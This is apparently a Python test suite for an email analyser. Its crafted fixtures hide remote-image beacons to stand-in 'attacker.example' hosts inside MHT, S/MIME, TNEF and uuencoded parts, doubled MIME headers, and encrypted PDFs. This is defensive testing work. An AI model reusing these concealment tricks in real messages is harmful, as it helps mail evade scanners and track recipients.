    return {f.host for f in report.findings if f.category == Category.BEACON and f.host}


def test_eml_and_mht_sent_as_octet_stream_are_read_as_messages() -> None:
    eml = _mail(_inner("eml.attacker.example"), "forward.eml")
    assert "eml.attacker.example" in _beacon_hosts(eml)
    mht = (
        b"From: <Saved by Blink>\r\nSubject: page\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/related; type="text/html"; boundary="b1"\r\n\r\n--b1\r\n'
        b"Content-Type: text/html\r\nContent-Location: https://www.example.org/\r\n\r\n"
        b'<html><body><img src="https://mht.attacker.example/p.png"></body></html>\r\n--b1--\r\n'
    )
    message = load_bytes(_mail(mht, "statement.mht"))
    [inner] = message.nested
    assert inner.part_prefix == "2" and inner.html_bodies
    assert any(d.kind == "WrappedMessage" and ".mht" in d.detail for d in message.defects)
    assert "mht.attacker.example" in _beacon_hosts(_mail(mht, "statement.mht"))


def test_octet_stream_text_that_only_looks_like_a_header_is_not_a_message() -> None:
    message = load_bytes(_mail(b"Note: call me back\r\n\r\nthanks", "note.bin"))
    assert message.nested == []


def _der(tag: int, content: bytes) -> bytes:
    size = len(content)
    length = bytes([size]) if size < 0x80 else bytes([0x82]) + size.to_bytes(2, "big")
    return bytes([tag]) + length + content


def _signed_data(inner: bytes, *, indefinite: bool) -> bytes:
    """CMS ContentInfo(SignedData) carrying `inner`; the BER form streams it in two chunks."""
    oid_signed = _der(0x06, bytes.fromhex("2a864886f70d010702"))
    oid_data = _der(0x06, bytes.fromhex("2a864886f70d010701"))
    if indefinite:
        half = len(inner) // 2
        octets = b"\x24\x80" + _der(0x04, inner[:half]) + _der(0x04, inner[half:]) + b"\x00\x00"
        content = b"\xa0\x80" + octets + b"\x00\x00"
    else:
        content = _der(0xA0, _der(0x04, inner))
    signed = _der(0x30, _der(0x02, b"\x01") + _der(0x31, b"") + _der(0x30, oid_data + content) + _der(0x31, b""))
    return _der(0x30, oid_signed + _der(0xA0, signed))


def test_opaque_smime_signed_message_is_read() -> None:
    for indefinite in (False, True):
        p7m = _signed_data(_inner("smime.attacker.example"), indefinite=indefinite)
        msg = EmailMessage()
        msg["From"], msg["To"], msg["Subject"] = "a@sender.example", "b@victim.example", "signed"
        msg.set_content(p7m, maintype="application", subtype="pkcs7-mime", params={"smime-type": "signed-data"},
                        filename="smime.p7m")  # fmt: skip
        assert "smime.attacker.example" in _beacon_hosts(msg.as_bytes()), indefinite


def _tnef(html: bytes) -> bytes:
    """A winmail.dat with one message-level attMAPIProps holding PR_BODY_HTML (PT_BINARY)."""
    padded = html + b"\x00" * (-len(html) % 4)
    props = (1).to_bytes(4, "little") + (0x0102).to_bytes(2, "little") + (0x1013).to_bytes(2, "little")
    props += (1).to_bytes(4, "little") + len(html).to_bytes(4, "little") + padded
    attribute = b"\x01" + (0x00069003).to_bytes(4, "little") + len(props).to_bytes(4, "little") + props + b"\x00\x00"
    return b"\x78\x9f\x3e\x22\x01\x00" + attribute


def test_tnef_winmail_dat_html_body_is_read() -> None:
    html = b'<html><body><img src="https://tnef.attacker.example/t.gif"></body></html>'
    raw = _mail(_tnef(html), "winmail.dat", "application", "ms-tnef")
    assert "tnef.attacker.example" in _beacon_hosts(raw)
    [inner] = load_bytes(raw).nested
    assert "tnef.attacker.example" in inner.html_bodies[0].text


def test_uuencoded_html_in_a_plain_text_body() -> None:
    html = b'<html><body><img src="https://uu.attacker.example/p.gif"></body></html>'
    encoded = "".join(binascii.b2a_uu(html[i : i + 45]).decode() for i in range(0, len(html), 45))
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@sender.example", "b@victim.example", "statement"
    msg.set_content(f"Your statement:\r\n\r\nbegin 644 statement.html\r\n{encoded}`\r\nend\r\n")
    found = [f for f in analyse(load_bytes(msg.as_bytes())).findings if f.host == "uu.attacker.example"]
    assert found and found[0].evidence["attachment"] == "statement.html"


# --- Issue 21: doubled Content-Type, Content-Transfer-Encoding, boundary: every reading is reported -----

HEAD = b"From: a@sender.example\r\nTo: b@victim.example\r\nSubject: readings\r\nMIME-Version: 1.0\r\n"
PAGE = b'<html><body><p>Hello</p><img src="https://{host}/r.png"></body></html>'


def _reading_findings(raw: bytes, host: str) -> tuple[list[Finding], list[Finding]]:
    findings = analyse(load_bytes(raw)).findings
    loads = [f for f in findings if f.host == host]
    ambiguous = [f for f in findings if f.evidence.get("defect") == "AmbiguousMimeHeader"]
    return loads, ambiguous


def test_doubled_content_type_html_reading_is_scanned() -> None:
    raw = (
        HEAD
        + b"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n"
        + PAGE.replace(b"{host}", b"ct.attacker.example")
    )
    loads, [ambiguous] = _reading_findings(raw, "ct.attacker.example")
    assert loads and loads[0].vector == "other-reading:img[src]"
    assert ambiguous.severity == Severity.LOW and "text/plain / text/html" in ambiguous.evidence["detail"]


def test_doubled_transfer_encoding_reading_is_scanned() -> None:
    body = base64.encodebytes(PAGE.replace(b"{host}", b"cte.attacker.example"))
    raw = (
        HEAD
        + b"Content-Type: text/html\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + body
    )
    loads, [ambiguous] = _reading_findings(raw, "cte.attacker.example")
    assert loads and loads[0].vector.startswith("other-reading:")
    assert "7bit / base64" in ambiguous.evidence["detail"]


def test_doubled_boundary_reading_is_scanned() -> None:
    raw = (
        HEAD + b'Content-Type: multipart/mixed; boundary="aaa"; boundary="bbb"\r\n\r\n'
        b"--aaa\r\nContent-Type: text/plain\r\n\r\nNothing to see.\r\n"
        b"--bbb\r\nContent-Type: text/html\r\n\r\n" + PAGE.replace(b"{host}", b"bnd.attacker.example") + b"\r\n"
        b"--bbb--\r\n--aaa--\r\n"
    )
    loads, [ambiguous] = _reading_findings(raw, "bnd.attacker.example")
    assert loads and loads[0].vector.startswith("other-reading:")
    assert "boundary aaa / bbb" in ambiguous.evidence["detail"]


def test_single_headers_have_a_single_reading() -> None:
    raw = HEAD + b"Content-Type: text/html\r\n\r\n" + PAGE.replace(b"{host}", b"one.example")
    message = load_bytes(raw)
    assert "other_readings" not in message.extra
    assert not [d for d in message.defects if d.kind == "AmbiguousMimeHeader"]


# Encryption dictionaries written by pypdf 7.1.1 (an independent implementation of ISO 32000-1 7.6.3),
# owner password "owner-pw": RC4-128 and AES-128 with an empty user password, RC4-128 with "secret".
PDF_R3_EMPTY = (
    b"/V 2 /R 3 /Length 128 /P 4294967292 /Filter /Standard "
    b"/O <ce9d51ecc479711be707ad379a54a0f4b30916d3240087eca5e23f15b28393f3> "
    b"/U <28160ef382d4cbfcc3e97f0a19143c0328bf4e5e4e758a4164004e56fffa0108>",
    b"9c6abd4833d636f3a140f10852b7c62e",
)
PDF_R4_EMPTY = (
    b"/V 4 /R 4 /Length 128 /P 4294967292 /Filter /Standard "
    b"/O <ce9d51ecc479711be707ad379a54a0f4b30916d3240087eca5e23f15b28393f3> "
    b"/U <eddd617bcfe79fc23b5e6040c50fb15d28bf4e5e4e758a4164004e56fffa0108> "
    b"/CF << /StdCF << /AuthEvent /DocOpen /CFM /AESV2 /Length 16 >> >> /StmF /StdCF /StrF /StdCF",
    b"c0cb1e78c20ec525a1a17403cf46468a",
)
PDF_R3_SECRET = (
    b"/V 2 /R 3 /Length 128 /P 4294967292 /Filter /Standard "
    b"/O <95477cc0ef78d3e5cd59ad14efefc5fcd371e99ff56097428a584683e850d585> "
    b"/U <890848a37c6b80369a18147f7ebb8c8e28bf4e5e4e758a4164004e56fffa0108>",
    b"ace7252e4eba0d962f06dfce4f5dace3",
)


def _encrypted_pdf(encrypt: tuple[bytes, bytes]) -> bytes:
    dictionary, file_id = encrypt
    return (
        b"%PDF-1.6\n1 0 obj << /Type /Catalog >> endobj\n5 0 obj\n<< " + dictionary + b" >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R /ID [ <" + file_id + b"> <" + file_id + b"> ] /Encrypt 5 0 R >>\n%%EOF\n"
    )


def test_pdf_that_opens_without_a_password_is_only_low() -> None:
    for encrypt in (PDF_R3_EMPTY, PDF_R4_EMPTY):
        [enc] = _attachment_findings(_mail(_encrypted_pdf(encrypt), "statement.pdf"))["ENCRYPTED_ATTACHMENT"]
        assert enc.severity == Severity.LOW and enc.evidence["opens_without_password"] is True
        assert "opens without a password" in enc.explanation
    [locked] = _attachment_findings(_mail(_encrypted_pdf(PDF_R3_SECRET), "statement.pdf"))["ENCRYPTED_ATTACHMENT"]
    assert locked.severity == Severity.MEDIUM and locked.evidence["opens_without_password"] is False
